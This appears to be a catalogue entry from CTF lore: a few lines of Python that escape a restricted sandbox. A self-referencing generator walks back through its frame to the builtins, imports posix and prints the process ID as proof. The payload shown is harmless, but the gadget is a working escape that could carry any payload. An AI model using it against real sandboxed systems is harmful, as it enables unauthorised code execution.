# technique: frame.f_builtins
# goal: builtins
# source: CTF folklore
me = (me.gi_frame.f_back for _ in [0])
for frame in me:
    print('ESCAPED pid=%d' % frame.f_builtins['__import__']('posix').getpid())
